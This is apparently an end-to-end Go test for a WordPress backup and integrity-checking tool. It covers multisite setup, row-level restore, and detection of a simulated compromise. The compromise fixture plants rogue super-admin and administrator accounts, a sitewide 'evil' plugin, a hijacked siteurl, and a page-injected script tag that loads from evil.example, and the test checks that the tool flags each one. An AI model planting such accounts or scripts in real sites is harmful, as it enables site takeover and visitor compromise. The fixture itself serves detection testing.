package e2e

import (
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// networked makes a network of sites out of a WordPress, with a second site, and returns
// what runs code in it.
func networked(t *testing.T, w *world, address string) func(code string) string {
	host := strings.TrimPrefix(address, "http://")
	run := func(code string) string {
		t.Helper()
		cmd := exec.Command("php", "-r", "$_SERVER['HTTP_HOST'] = '"+host+"'; $_SERVER['REMOTE_ADDR'] = '127.0.0.1'; require 'wp-load.php'; "+code)
		cmd.Dir = w.path("htdocs")
		out, err := cmd.CombinedOutput()
		require.NoError(t, err, string(out))
		return strings.TrimSpace(string(out))
	}
	run(`require_once ABSPATH . 'wp-admin/includes/upgrade.php'; require_once ABSPATH . 'wp-admin/includes/network.php';
		foreach ($wpdb->tables('ms_global') as $t => $name) { $wpdb->$t = $name; }
		install_network(); populate_network(1, '` + host + `', 'keeper@kestrelpoint.example', 'Kestrel Point', '/', false);`)
	config, err := os.ReadFile(w.path("htdocs/wp-config.php"))
	require.NoError(t, err)
	w.write("htdocs/wp-config.php", strings.Replace(string(config), "if ( ! defined( 'ABSPATH'", "define( 'MULTISITE', true ); define( 'SUBDOMAIN_INSTALL', false ); define( 'DOMAIN_CURRENT_SITE', '"+host+"' ); define( 'PATH_CURRENT_SITE', '/' ); define( 'SITE_ID_CURRENT_SITE', 1 ); define( 'BLOG_ID_CURRENT_SITE', 1 );\nif ( ! defined( 'ABSPATH'", 1))
	require.Equal(t, "2", run(`echo wpmu_create_blog('`+host+`', '/children/', 'For children', 1);`))
	return run
}

// Many sites in one installation: a page of a sub-site comes back with what belongs to
// it, and whoever got into one of them is seen.
func TestWordPressNetwork(t *testing.T) {
	t.Parallel()
	w, s, address := wordpress(t, "network_cms")
	php := networked(t, w, address)
	page := php(`switch_to_blog(2); $id = wp_insert_post(['post_type' => 'page', 'post_status' => 'publish', 'post_author' => 1, 'post_title' => 'Rainy days', 'post_content' => 'We paint boats']);
		update_post_meta($id, 'guide', 'E. Marrow'); wp_set_object_terms($id, ['visits'], 'category');
		$c = wp_insert_comment(['comment_post_ID' => $id, 'comment_content' => 'Mine was red']); update_comment_meta($c, 'stars', '5'); echo $id;`)
	w.run("adopt", "htdocs", "--name", "kestrelpoint", "--store", "./archives")
	w.clock = time.Now().Add(-24 * time.Hour)
	w.run("backup")
	good := w.newest()
	w.clock = time.Time{}
	belongs := func() (all []string) {
		for _, q := range []string{
			"SELECT CONCAT_WS('|', ID, post_content, post_author) FROM posts WHERE ID = " + page,
			"SELECT CONCAT_WS('|', meta_key, meta_value) FROM postmeta WHERE post_id = " + page + " ORDER BY meta_id",
			"SELECT term_taxonomy_id FROM term_relationships WHERE object_id = " + page,
			"SELECT CONCAT_WS('|', comment_ID, comment_content) FROM comments WHERE comment_post_ID = " + page,
			"SELECT CONCAT_WS('|', comment_id, meta_key, meta_value) FROM commentmeta ORDER BY meta_id",
		} {
			all = append(all, s.column(t, strings.ReplaceAll(q, "FROM ", "FROM network_cms.kp_2_"))...)
		}
		return all
	}
	whole := belongs()
	require.Len(t, whole, 5)
	php(`switch_to_blog(2); wp_delete_post(` + page + `, true);`)
	require.Len(t, belongs(), 1, "only what WordPress forgets to delete")
	w.run("restore", good, "--rows", "kp_2_posts:ID="+page, "--yes")
	assert.Equal(t, whole, belongs())
	w.run("settle", "kestrelpoint", "--unsaved", "--yes")

	php(`$eve = wp_insert_user(['user_login' => 'eve', 'user_pass' => 'x']); grant_super_admin($eve);
		$mal = wp_insert_user(['user_login' => 'mallory', 'user_pass' => 'x']); add_user_to_blog(2, $mal, 'administrator');
		update_site_option('active_sitewide_plugins', ['evil/evil.php' => time()]);
		switch_to_blog(2); update_option('siteurl', 'http://evil.example');`)
	s.exec(t, `UPDATE network_cms.kp_2_posts SET post_content = CONCAT(post_content, '<script src="//evil.example/x.js"></script>') WHERE ID = `+page)
	w.write("htdocs/wp-content/mu-plugins/quiet.php", "<?php // runs always\n")
	found := w.fails(4, []string{"runs at every request"}, "compare", good).out
	for _, sign := range []string{
		"eve in table kp_sitemeta", "an administrator of the whole network",
		"mallory in table kp_users", "an administrator's account",
		"evil/evil.php in table kp_sitemeta", "on every site of the network",
		"siteurl in table kp_2_options",
		"Rainy days: <script src=", "kp_2_posts", "a script in a page",
		"mu-plugins/quiet.php",
	} {
		assert.Contains(t, found, sign)
	}
}
